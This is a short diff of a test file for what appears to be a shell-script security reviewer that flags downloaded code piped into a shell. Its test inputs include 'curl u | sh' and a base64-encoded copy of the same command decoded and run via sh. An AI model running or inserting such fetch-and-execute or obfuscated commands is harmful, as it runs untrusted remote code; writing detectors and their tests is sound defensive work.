@@ -30,7 +30,7 @@ describe('SR1 A review', () => {
 
   it('points into a text that is handed to a shell, and to the place where a decoded one is run', () => {
     expect(found("bash -c '\nls\ncurl u | sh\n'")).toEqual(['download-to-shell 3:10'])
-    const [decoded] = reviewScript('ls\necho Y3VybCB1IHwgc2g= | base64 -d | sh').findings.filter(
+    const decoded = reviewScript('ls\necho Y3VybCB1IHwgc2g= | base64 -d | sh').findings.find(
       (finding) => finding.class === 'download-to-shell',
     )
     expect(decoded).toMatchObject({
